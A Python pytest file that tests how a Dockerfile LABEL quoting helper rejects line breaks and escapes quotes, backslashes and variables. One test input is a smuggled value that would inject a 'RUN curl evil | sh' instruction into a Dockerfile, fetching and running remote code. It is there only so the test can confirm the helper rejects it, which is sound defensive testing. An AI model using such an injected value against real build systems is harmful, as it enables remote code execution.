"""The Dockerfile LABEL quoting in wrapper/context.py, called directly.

Every label value is validated before it gets here (names, image references, safe paths),
so no public input reaches `_quote` with a line break: this check is the last line of
defence against a value that would start a new Dockerfile instruction, and only a direct
call can show it holds.
"""

from __future__ import annotations

import pytest

from seldon_graphs.wrapper.context import ContextError, _quote, label_arguments

BREAKS = ["a\nb", "a\rb", "a\x00b", 'x"\nRUN curl evil | sh\nLABEL y="', "\r\n", "end\n"]


@pytest.mark.parametrize("value", BREAKS)
def test_a_line_break_never_reaches_the_dockerfile(value: str) -> None:
    with pytest.raises(ContextError) as err:
        _quote(value)
    assert str(err.value) == f"label value {value!r} contains a line break"


@pytest.mark.parametrize(
    ("value", "quoted"),
    [
        ("plain", '"plain"'),
        ('say "hi"', '"say \\"hi\\""'),
        ("$HOME and ${PATH}", '"\\$HOME and \\${PATH}"'),
        ("back\\slash", '"back\\\\slash"'),
        ('\\"$', '"\\\\\\"\\$"'),
        ("", '""'),
    ],
)
def test_quotes_backslashes_and_variables_are_escaped(value: str, quoted: str) -> None:
    assert _quote(value) == quoted


def test_label_arguments_are_quoted_pairs_in_order() -> None:
    labels = {"b.key": 'say "hi"', "a.key": "$X", "c": ""}
    assert label_arguments(labels) == 'b.key="say \\"hi\\"" a.key="\\$X" c=""'
    assert (
        label_arguments(labels, " \\\n  ") == 'b.key="say \\"hi\\"" \\\n  a.key="\\$X" \\\n  c=""'
    )
    assert label_arguments({}) == ""
